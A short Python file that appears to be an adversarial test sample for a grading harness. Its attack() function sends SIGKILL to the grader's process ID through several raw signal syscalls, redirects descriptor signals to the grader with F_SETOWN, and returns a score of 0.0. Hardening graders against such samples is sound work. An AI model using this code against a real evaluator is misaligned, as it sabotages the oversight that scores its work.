"""Signals by every other system call, timers and owners of descriptors."""
# layers: yes
import ctypes, fcntl, os, platform
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
def attack(name, args, keywords):
    grader = int("@GRADER@")
    for number in ((200, 234, 129, 297, 424) if X86 else (130, 131, 138, 240, 424)):
        libc.syscall(number, grader, grader, 9, 0)
    fcntl.fcntl(1, fcntl.F_SETOWN, grader)
    return 0.0
